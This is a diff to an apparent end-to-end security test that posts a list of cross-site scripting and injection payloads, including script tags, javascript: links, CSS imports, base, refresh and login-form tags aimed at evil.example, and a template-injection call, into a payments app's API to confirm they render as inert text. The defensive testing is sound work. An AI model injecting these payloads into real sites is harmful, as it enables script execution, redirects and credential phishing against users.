@@ -12,13 +12,13 @@ const payloads = [
   "' autofocus onfocus=console.error(4) x='",
   '</title><script>console.error(5)</script>',
   '</style><style>*{display:none}</style>',
-  '<style>@import"//evil.example/6"</style>',
+  '<style>@import"//evil.example"</style>',
   '<p style="position:fixed;inset:0">7</p>',
   '<a href="javascript:console.error(8)">pay</a>',
   'javascript:console.error(9)//',
   '[pay](javascript:console.error(10))',
   '<iframe srcdoc="<script>console.error(11)">',
-  '<base href=//evil.example/>',
+  '<base href=//evil.example>',
   '<meta http-equiv=refresh content=0;//evil.example>',
   '<form action=//evil.example><button>Log in',
   '{{constructor.constructor("console.error(16)")()}}',
@@ -43,7 +43,8 @@ test('hostile input is shown as text on every screen and never executed [attack 
   const payments = [];
   for (const [n, text] of payloads.entries()) {
     const name = text.slice(0, 50);
-    const recipient = { name, email: `${marker}-${n}@example.com`, phone: text.slice(0, 30) };
+    const recipient = { name, email: `${marker}-${n}@example.com`, phone: '' };
+    await postAs(staff, `${origin}/api/services/customers/`, { ...recipient, phone: text.slice(0, 30) });
     const request = { customer: recipient, description: text, amount_net: 4500, vat_code: 'T0' };
     payments.push(await postAs(staff, `${origin}/api/services/payments/`, request));
     await postAs(staff, `${origin}/api/services/services/`, { name: `${marker} ${text}`, description: text });
